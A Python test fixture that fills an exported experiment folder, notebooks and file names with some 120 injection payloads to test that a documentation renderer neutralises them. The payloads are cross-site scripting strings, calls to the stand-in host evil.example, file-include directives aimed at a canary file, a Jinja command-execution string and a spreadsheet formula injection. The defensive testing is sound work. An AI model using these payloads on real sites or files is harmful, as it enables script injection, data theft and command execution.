"""What a stranger may write, and an outputs folder in which it stands everywhere.

Every payload that ran would call `alert`, set `window.pwned`, or ask another machine for something; every one
that brought a file in would show the text of CANARY."""

import base64
import hashlib
import json
import re
import shutil
from importlib.resources import files

CANARY = "the canary sings in no page"
SECRET_FILE = "canary.txt"  # beside the outputs; {file} in a payload is its path

# HTML of every kind that runs something by itself
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</ScRiPt >",
    "<script src=//evil.example/3.js></script>",
    "<script src='data:text/javascript,alert(4)'></script>",
    "</script><script>window.pwned=5</script>",
    "</title><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "--><script>alert(8)</script>",
    "]]><script>alert(9)</script>",
    "<svg onload=alert(10)>",
    "<svg/onload=alert(11)//",
    "<svg><script>alert(12)</script></svg>",
    "<svg><animate onbegin=alert(13) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to=alert(14)></svg>",
    "<svg><a xlink:href='javascript:alert(15)'><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(16)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(17)>#x'></svg>",
    "<svg><style><img src=x onerror=alert(18)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>",
    "<math><mi xlink:href='javascript:alert(20)'>x</mi></math>",
    "<img src=x onerror=alert(21)>",
    "<img src=x onerror=&#97;lert(22)>",
    "<img/src='x'/onerror='alert(23)'>",
    "<IMG SRC=x ONERROR=alert(24)>",
    "<img src=https://evil.example/25.png>",
    "<img srcset='https://evil.example/26.png 1x'>",
    "<image href=x onerror=alert(27)>",
    '"><img src=x onerror=alert(28)>',
    "'><img src=x onerror=alert(29)>",
    "` onmouseover=alert(30) `",
    '" autofocus onfocus=alert(31) x="',
    "' onpointerenter='alert(32)",
    "<body onload=alert(33)>",
    "<input autofocus onfocus=alert(34)>",
    "<select autofocus onfocus=alert(35)>",
    "<textarea autofocus onfocus=alert(36)>",
    "<details open ontoggle=alert(37)>",
    "<video src=x onerror=alert(38)></video>",
    "<video><source onerror=alert(39)></video>",
    "<audio src=https://evil.example/40.mp3 autoplay>",
    "<marquee onstart=alert(41)>",
    "<iframe src='javascript:alert(42)'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=43</script>'></iframe>",
    "<iframe src=https://evil.example/44></iframe>",
    "<object data='javascript:alert(45)'></object>",
    "<embed src='javascript:alert(46)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/48.css>",
    "<link rel=preload as=script href=https://evil.example/49.js>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/50'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<style>@import 'https://evil.example/52.css';</style>",
    "<style>*{background:url(https://evil.example/53.png)}</style>",
    "<div style='background:url(https://evil.example/54.png)'>x</div>",
    "<div style='animation:x' onanimationstart=alert(55)>x</div>",
    "<form action=https://evil.example/56><button autofocus>x</button></form>",
    "<button formaction='javascript:alert(57)' type=submit>x</button>",
    "<a href='javascript:alert(58)'>x</a>",
    "<a href='java&#9;script:alert(59)'>x</a>",
    "<a href=' &#14; javascript:alert(60)'>x</a>",
    "<a href='data:text/html,<script>alert(61)</script>'>x</a>",
    "<a href='vbscript:alert(62)'>x</a>",
    "<a href='#' onclick='alert(63)' id='rows-table' name='llmforge'>x</a>",
    "<form id=choose><input name=elements></form><img name=getElementById>",
    "<noscript><p title='</noscript><img src=x onerror=alert(65)>'>",
    "<template><script>alert(66)</script></template>",
    "<x contenteditable onbeforeinput=alert(67)>x</x>",
    "<!--[if IE]><script>alert(68)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(69)'?>",
    "<portal src=https://evil.example/70></portal>",
    "&lt;script&gt;alert(71)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(72)&#62;",
    "\u003cimg src=x onerror=alert(73)\u003e \\u003cimg src=x onerror=alert(73)\\u003e",
    "%3Cscript%3Ealert(74)%3C/script%3E",
    "<img src=x onerror\x0b=alert(75)>",
    "<scr\x00ipt>alert(76)</script>",
    "\u2028</script><svg onload=alert(77)>\u2029",
]
# Markdown, MyST, reStructuredText and templates
MARKUP = [
    "[x](javascript:alert(101))",
    "[x](<java\tscript:alert(102)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMDMpPC9zY3JpcHQ+)",
    '![x](x" onerror="alert(104))',
    "![x](https://evil.example/105.png)",
    "<javascript:alert(106)>",
    "[x]: javascript:alert(107)\n\n[x]",
    "[x](https://evil.example/108 '\"><svg onload=alert(108)>')",
    "![x]({file})",
    "[x]({file})",
    "```{raw} html\n<script>alert(111)</script>\n```",
    "````{raw} html\n<img src=x onerror=alert(112)>\n````",
    ":::{raw} html\n<svg onload=alert(113)>\n:::",
    "```{eval-rst}\n.. raw:: html\n\n   <script>alert(114)</script>\n```",
    "```{eval-rst}\n.. raw:: html\n   :file: {file}\n```",
    "```{eval-rst}\n.. include:: {file}\n```",
    "```{include} {file}\n```",
    ":::{include} {file}\n:::",
    "```{include} {file}\n:literal:\n```",
    "```{literalinclude} {file}\n```",
    "```{raw} html\n:file: {file}\n```",
    "```{csv-table}\n:file: {file}\n```",
    "```{figure} {file}\n```",
    "```{image} javascript:alert(124)\n```",
    "{download}`x <{file}>`",
    "{raw-html}`<script>alert(126)</script>`",
    "```{code-cell}\nopen('{file}').read()\n```",
    "```{toctree}\n{file}\n```",
    "```{automodule} os\n:members:\n```",
    "```{math}\n\\href{javascript:alert(130)}{x}\n```",
    "$\\href{javascript:alert(131)}{x}$ \\(\\href{javascript:alert(131)}{x}\\)",
    "```\n\n<script>alert(132)</script>\n\n# heading",
    "~~~\n<script>alert(133)</script>",
    "---\nhtml_theme.x: <script>alert(134)</script>\n---",
    "{{x:accuracy}} {{ '7'*7 }} {% include '{file}' %} ${7*7} #{7*7}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "<!-- findings --> <!-- {file} -->",
    "| a | <svg onload=alert(138)> |\n| --- | --- |\n| [x](javascript:alert(138)) | b |",
    ".. raw:: html\n\n   <script>alert(139)</script>",
    "`<script>alert(140)</script>` ``` `` <b>x</b>",
    "# x\n\n## <svg onload=alert(141)>\n\n- [ ] x\n\n> y",
    "(target)=\n% hidden\n+++\n[](#target) {ref}`target`",
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\r\u202etxt.exe\u202c\x9b31m",
    "=cmd|' /C calc'!A0",
]
PAYLOADS = HTML + MARKUP


def filled(payload, work):
    "A payload with the path of the file that it may not bring in."
    return payload.replace("{file}", str(work / SECRET_FILE))


def everywhere(value, texts):
    "A JSON value whose texts are payloads, keys of mappings but not their order kept."
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, dict):
        return {k: everywhere(v, texts) for k, v in value.items()}
    return [everywhere(v, texts) for v in value] if isinstance(value, list) else value


def _output(texts, kinds):
    data = {kind: next(texts) for kind in kinds}
    return {"output_type": "display_data", "metadata": {k: {"alt": next(texts)} for k in kinds}, "data": data}


KINDS = (
    *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "application/javascript"),
    *("image/png", "image/jpeg", "application/pdf", "application/vnd.jupyter.widget-view+json"),
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(201)'><script>alert(202)</script></svg>"


def notebook(texts, title):
    "A notebook whose cells, outputs and metadata are payloads, each text in prose and in an output."
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"# {title}\n\n> {title}", "attachments": {}}
    ]
    for text in texts:
        several = iter([text] * 99)
        outputs = [_output(several, kinds) for kinds in (KINDS, KINDS[1:], KINDS[2:4], KINDS[4:])]
        outputs += [
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}},
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"image/png": base64.b64encode(SVG.encode()).decode()},
            },
        ]
        cells += [
            {"cell_type": "markdown", "metadata": {"tags": [text]}, "source": text},
            {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": text},
            {
                "cell_type": "code",
                "metadata": {"tags": [text, "hide-input"], "mystnb": {"image": {"alt": text}}},
                "source": f"%%html\n{text}",
                "outputs": outputs,
                "execution_count": 1,
            },
        ]
    metadata = {"kernelspec": {"name": title, "display_name": title}, "mystnb": {"execution_mode": "force"}}
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 4})


def _rewrite(path, change):
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value))


def study_of(work, name, texts):
    "A study of two arms on questions that are payloads, run and exported; its experiments' ids."
    from llmforge.batching import FakeEngine
    from llmforge.exports import export_experiment, export_plan
    from llmforge.store import Store
    from llmforge.study import run_study
    from llmforge.studyconfig import load_study

    questions = [
        {"id": f"{i} {t}", "question": f"Is it {t}", "answers": [t, "two"], "kind": t}
        for i, t in enumerate(texts)
    ]
    data = "<img src=x onerror=alert(203)>.jsonl"
    (work / data).write_text("".join(json.dumps(q) + "\n" for q in questions))
    arms = {"plain": {}, "other": {"sampling": {"max_tokens": 11}}}
    study = {
        "name": name,
        "question": texts[9],
        "base": {
            "model": {"name": texts[20], "revision": texts[21]},
            "engine": {"name": "fake", "cache": False},
            "method": {"shots": 0, "prompt": {"system": texts[22], "template": "{question}"}},
            "dataset": {"name": data},
            "metrics": {"resamples": 100},
        },
        "datasets": {"d": {}},
        "arms": arms,
        "hypotheses": [
            {"id": "H1", "claim": texts[10], "treatment": "other", "control": "plain", "min_effect": 0.1},
            {
                "id": "H2",
                "claim": texts[21],
                "treatment": "other",
                "control": "plain",
                "metric": "latency_ms",
            },
        ],
        "exploratory": ["f1"],
    }
    replies = iter(texts * 9)
    store = Store(f"sqlite:///{work}/hostile.db")

    def engine(config):
        return FakeEngine(lambda text, sampling: " " + next(replies).replace("\n", " "))

    done = run_study(load_study({"study": study}), store, engine, show=False)
    for id in done.ids.values():
        export_experiment(store, id, work / "outputs" / id)
    folder = work / "outputs" / f"study-{name}"
    export_plan(store, name, folder)
    (folder / "study.ipynb").write_text(notebook(texts[9:30], texts[9]))
    return list(done.ids.values())


def rewritten(folder, texts):
    "Payloads in an exported experiment's files, wherever a text may be any."
    from llmforge.aggregate import result_row, summarise
    from llmforge.config import load_config

    config = load_config(folder / "config.yaml")
    rows = [json.loads(line) for line in (folder / "runs.jsonl").read_text().split("\n") if line]
    for row, text in zip(rows, texts):
        several = iter([text] * 999)
        row["trace"]["attributes"] |= {text: text, "list": [text], "stop_reason": text}
        row["trace"]["children"] = [everywhere(c, several) | {"kind": k} for c, k in _children(row, text)]
        row["scores"] |= {text: 0.5}
    rows[0] |= {"error_type": texts[0], "error": texts[9]}
    lines = "".join(json.dumps(row, sort_keys=True, separators=(",", ":")) + "\n" for row in rows)
    (folder / "runs.jsonl").write_text(lines)

    def change(head):
        head["runs_sha256"] = hashlib.sha256(lines.encode()).hexdigest()
        e = head["experiment"]
        e |= {"label": texts[10]}  # another name than the config's is refused
        origin = e["provenance_json"]
        hostile = everywhere(origin, iter(texts * 9)) | {texts[20]: texts[21]}
        for part in {"dataset", "corpus"} & origin.keys():  # what the record says twice must be the same
            hostile[part]["fingerprint"] = origin[part]["fingerprint"]
        e["provenance_json"] = hostile
        again = result_row(summarise(rows, config))  # a row has failed now
        head["result"] |= again
        summary = head["result"]["summary"]
        summary[texts[9]] = dict(summary["accuracy"])

    _rewrite(folder / "result.json", change)


def _children(row, text):
    child = {
        "kind": "x",
        "name": text,
        "input": text,
        "output": text,
        "attributes": {"a": text},
        "error": text,
    }
    child |= {"start_ms": 0.0, "duration_ms": 1.0, "children": []}
    return [(child, text), (child, "llm")]


def hostile_outputs(work):
    "An outputs folder full of payloads, and the file that they may not bring in; ids of experiments."
    (work / SECRET_FILE).write_text(CANARY)
    texts = [filled(p, work) for p in PAYLOADS]
    outputs = work / "outputs"
    outputs.mkdir()
    ids = study_of(work, "hostile", texts)
    (outputs / "study-hostile" / "chain.json").unlink()  # a stranger need not bring the seal that shows it
    for id in ids:
        rewritten(outputs / id, texts)
        (outputs / id / "picture.svg").write_text(SVG)
    (outputs / ids[1] / "experiment.ipynb").write_text(notebook(texts, texts[9]))
    (outputs / ids[0]).rename(outputs / "<svg onload=alert(204)>")
    beside = outputs / "<img src=x onerror=alert(205)>"
    beside.mkdir()
    (beside / "beside.ipynb").write_text(notebook(texts[:5], texts[9]))
    title = {"cell_type": "markdown", "metadata": {}, "source": "# Only a title"}
    (beside / "title.ipynb").write_text(json.dumps({"cells": [title], "metadata": {}}))
    (beside / "empty.ipynb").write_text(json.dumps({"cells": [], "metadata": {}}))
    _card(outputs / "cards", texts)
    return ids


def _card(folder, texts):
    folder.mkdir()
    card = json.loads((files("llmforge") / "cards" / "f1-1.json").read_text())
    card = everywhere(card, iter(texts * 20))
    card["kinds"] = {texts[9]: [1, 2]}
    (folder / "mine.json").write_text(json.dumps(card))


def hostile_home(root, home):
    "A project with one lesson and the site's pages, without their numbers and links: built in seconds."
    (home / "configs").mkdir(parents=True)
    shutil.copyfile(root / "settings.ini", home / "settings.ini")
    shutil.copytree(root / "nbs" / "site", home / "nbs" / "site")
    for path in (home / "nbs" / "site").rglob("*.md"):
        text = re.sub(r"\{\{[^{}]*\}\}", "n", path.read_text())
        path.write_text(re.sub(r"!?\[([^\]]*)\]\(/(learn|api|figures)[^)]*\)", r"\1", text))
    shutil.copyfile(root / "nbs" / "01_text.ipynb", home / "nbs" / "01_text.ipynb")
    return home
